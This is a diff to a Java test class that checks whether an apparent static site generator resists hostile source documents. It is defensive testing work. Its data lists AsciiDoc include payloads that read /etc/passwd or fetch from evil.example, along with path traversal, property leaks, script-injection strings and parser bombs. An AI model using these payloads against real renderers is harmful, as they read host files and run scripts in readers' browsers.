@@ -11,13 +11,13 @@ import java.util.List;
 import java.util.Locale;
 import java.util.Set;
 import java.util.stream.Stream;
+import org.assertj.core.api.SoftAssertions;
 import org.jsoup.nodes.Attribute;
 import org.jsoup.nodes.Element;
 import org.junit.jupiter.api.Assertions;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /** What a hostile document cannot do to its readers or to the machine that builds the site. */
@@ -116,15 +116,33 @@ class SafetyTest {
         "<a href=\"\uE0009\uE001\" title=\"\uE0007\uE001\">x</a>");
   }
 
-  @ParameterizedTest(name = "{0}")
-  @MethodSource("attacks")
-  void nothingOfASourceRunsInAPage(String attack) {
-    site.file("content/a.md", "---\ntitle: Victim\n---\nBefore.\n\n" + attack + "\n\nAfter.\n")
-        .file("content/b.html", "<h1>Victim two</h1><p>Before.</p>" + attack + "<p>After.</p>")
-        .build()
-        .exits(0);
-    assertSafe("incidents/victim/");
-    assertSafe("incidents/victim-two/");
+  /** All of them in one site, each in a document of its own. */
+  @Test
+  void nothingOfASourceRunsInAPage() {
+    List<String> attacks = attacks().toList();
+    for (int i = 0; i < attacks.size(); i++) {
+      String attack = attacks.get(i);
+      site.file(
+              "content/a" + i + ".md",
+              "---\ntitle: Md " + i + "\n---\nX.\n\n" + attack + "\n\nY.\n")
+          .file(
+              "content/b" + i + ".html", "<h1>Html " + i + "</h1><p>X.</p>" + attack + "<p>Y.</p>");
+    }
+    site.build().exits(0);
+    SoftAssertions softly = new SoftAssertions();
+    for (int i = 0; i < attacks.size(); i++) {
+      String attack = attacks.get(i);
+      int number = i;
+      softly
+          .assertThatCode(() -> assertSafe("incidents/md-" + number + "/"))
+          .as("in Markdown: %s", attack)
+          .doesNotThrowAnyException();
+      softly
+          .assertThatCode(() -> assertSafe("incidents/html-" + number + "/"))
+          .as("in HTML: %s", attack)
+          .doesNotThrowAnyException();
+    }
+    softly.assertAll();
   }
 
   private void assertSafe(String page) {
@@ -293,57 +311,69 @@ class SafetyTest {
     }
   }
 
-  @ParameterizedTest(name = "{0}")
-  @ValueSource(
-      strings = {
-        "include::/etc/passwd[]",
-        "include::../../../../../../etc/passwd[]",
-        "include::{user-home}/secret[]",
-        "include::secret.txt[]",
-        "a::\ninclude::/etc/passwd[lines=1..2]",
-        "ifdef::x[]\nendif::[]\n  include::/etc/passwd[]",
-        "|===\n|a\n\ninclude::/etc/passwd[]\n|===",
-        "----\ninclude::/etc/passwd[]\n----",
-        ":x: /etc/passwd\ninclude::{x}[]",
-        ":data-uri:\n\nimage::/etc/passwd[]",
-        ":data-uri:\n:imagesdir: /\n\nimage::etc/passwd[]",
-        ":allow-uri-read:\n\ninclude::https://evil.example/x[]",
-        "[source,ruby]\n----\n{docdir} {docfile} {user-home}\n----",
-        "{docdir} {docfile} {user-home} {outdir} {docname}",
-        "++++\n<script>alert(1)</script>\n++++",
-        "pass:[<script>alert(1)</script>]",
-        "link:javascript:alert(1)[x]",
-        "[subs=macros]\ninclude::/etc/passwd[]",
-      })
-  void asciiDocReadsNothingOfTheMachine(String attack) throws Exception {
-    site.file("content/a.adoc", "= Victim\n\nBefore.\n\n" + attack + "\n\nAfter.\n")
-        .file("secret.txt", "SECRET\n")
-        .file("content/secret.txt", "SECRET\n")
-        .build()
-        .exits(0);
+  private static final List<String> ASCIIDOC =
+      List.of(
+          "include::/etc/passwd[]",
+          "include::../../../../../../etc/passwd[]",
+          "include::{user-home}/secret[]",
+          "include::../secret.txt[]",
+          "include::secret.txt[]",
+          "a::\ninclude::/etc/passwd[lines=1..2]",
+          "ifdef::x[]\nendif::[]\n  include::/etc/passwd[]",
+          "|===\n|a\n\ninclude::/etc/passwd[]\n|===",
+          "|===\na|include::/etc/passwd[]\n|===",
+          "a|\n|===\na|include::/etc/passwd[]\n!===\n|===",
+          "  include::/etc/passwd[]",
+          "\u00A0include::/etc/passwd[]",
+          "* item\n+\ninclude::/etc/passwd[]",
+          ":max-include-depth: 64\n\n|===\na|include::/etc/passwd[]\n|===",
+          "[cols=\"1a\"]\n|===\n|include::/etc/passwd[]\n|===",
+          "ifeval::[1 == 1]\ninclude::/etc/passwd[]\nendif::[]",
+          "ifdef::docdir[include::/etc/passwd[]]",
+          "\\include::/etc/passwd[]",
+          "----\ninclude::/etc/passwd[]\n----",
+          ":x: /etc/passwd\ninclude::{x}[]",
+          ":data-uri:\n\nimage::/etc/passwd[]",
+          ":data-uri:\n:imagesdir: /\n\nimage::etc/passwd[]",
+          ":allow-uri-read:\n\ninclude::https://evil.example/x[]",
+          "[source,ruby]\n----\n{docdir} {docfile} {user-home}\n----",
+          "{docdir} {docfile} {user-home} {outdir} {docname}",
+          "{user.home} {java.version} {env-home} {java.io.tmpdir} {user.dir}",
+          "csv::\n[format=csv]\n|===\ninclude::/etc/passwd[]\n|===",
+          "++++\n<script>alert(1)</script>\n++++",
+          "pass:[<script>alert(1)</script>]",
+          "link:javascript:alert(1)[x]",
+          "[subs=macros]\ninclude::/etc/passwd[]");
+
+  @Test
+  void asciiDocReadsNothingOfTheMachine() throws Exception {
+    for (int i = 0; i < ASCIIDOC.size(); i++) {
+      site.file(
+          "content/a" + i + ".adoc", "= Victim " + i + "\n\nBefore.\n\n" + ASCIIDOC.get(i) + "\n");
+    }
+    site.file("secret.txt", "SECRET\n").file("content/secret.txt", "SECRET\n").build().exits(0);
     String passwd = Files.readString(Path.of("/etc/passwd")).lines().findFirst().orElseThrow();
     String encoded =
         java.util.Base64.getEncoder()
             .encodeToString(passwd.substring(0, 9).getBytes(StandardCharsets.UTF_8));
-    String page = site.text("incidents/victim/");
-    assertThat(site.main("incidents/victim/").text()).contains("Before.");
-    assertThat(page)
-        .doesNotContain(passwd)
-        .doesNotContain(encoded)
-        .doesNotContain("SECRET")
-        .doesNotContain(site.root().toString())
-        .doesNotContain(System.getProperty("user.home") + "/");
-    assertSafe("incidents/victim/");
-  }
-
-  @Test
-  void asciiDocDoesNotSeeThePropertiesOfTheMachine() {
-    site.file("content/a.adoc", "= One\n\n{user.home} {java.version} {user-home} {env-home}\n")
-        .build()
-        .exits(0);
-    assertThat(site.text("incidents/one/"))
-        .doesNotContain(System.getProperty("java.version"))
-        .doesNotContain(System.getProperty("user.home"));
+    SoftAssertions softly = new SoftAssertions();
+    for (int i = 0; i < ASCIIDOC.size(); i++) {
+      String page = "incidents/victim-" + i + "/";
+      String text = SiteHarness.only(site.main(page), "div.prose").outerHtml();
+      softly
+          .assertThat(text)
+          .as(ASCIIDOC.get(i))
+          .contains("Before.")
+          .doesNotContain(passwd)
+          .doesNotContain(encoded)
+          .doesNotContain("SECRET")
+          .doesNotContain(site.root().toString())
+          .doesNotContain(System.getProperty("java.version"))
+          .doesNotContain(System.getProperty("user.dir"))
+          .doesNotContain(System.getProperty("user.home") + "/");
+      softly.assertThatCode(() -> assertSafe(page)).as(ASCIIDOC.get(i)).doesNotThrowAnyException();
+    }
+    softly.assertAll();
   }
 
   static Stream<String> bombs() {
@@ -363,13 +393,14 @@ class SafetyTest {
         "\"" + "\\u0000".repeat(10) + "\": 1\n");
   }
 
-  @ParameterizedTest
-  @MethodSource("bombs")
-  void aHeaderThatIsABombIsAnErrorAtItsPlaceAndTheBuildGoesOn(String header) {
-    site.file("content/bomb.md", "---\n" + header + "---\n# Bomb\n")
-        .file("content/ok.md", "# Fine\n");
-    Assertions.assertTimeout(Duration.ofMinutes(2), () -> site.build("--keep-going"));
-    assertThat(site.pages("incidents")).contains("fine").hasSize(2);
+  @Test
+  void aHeaderThatIsABombIsAnErrorAtItsPlaceAndTheBuildGoesOn() {
+    List<String> bombs = bombs().toList();
+    for (int i = 0; i < bombs.size(); i++) {
+      site.file("content/" + i + ".md", "---\n" + bombs.get(i) + "---\n# Bomb " + i + "\n");
+    }
+    Assertions.assertTimeout(Duration.ofMinutes(3), () -> site.build("--keep-going"));
+    assertThat(site.incidents()).hasSize(bombs.size());
   }
 
   static Stream<String> pathologicalBodies() {
@@ -392,12 +423,14 @@ class SafetyTest {
         "\uD800\uDFFF\uFFFE".repeat(n));
   }
 
-  @ParameterizedTest
-  @MethodSource("pathologicalBodies")
-  void aBodyThatIsABombGivesAPage(String body) {
-    site.file("content/bomb.md", "# Bomb\n\n" + body + "\n");
-    Assertions.assertTimeout(Duration.ofMinutes(2), () -> site.build("--keep-going"));
-    assertThat(site.pages("incidents")).containsExactly("bomb");
+  @Test
+  void aBodyThatIsABombGivesAPage() {
+    List<String> bodies = pathologicalBodies().toList();
+    for (int i = 0; i < bodies.size(); i++) {
+      site.file("content/" + i + ".md", "# Bomb " + i + "\n\n" + bodies.get(i) + "\n");
+    }
+    Assertions.assertTimeout(Duration.ofMinutes(3), () -> site.build("--keep-going"));
+    assertThat(site.pages("incidents")).hasSize(bodies.size());
   }
 
   @Test
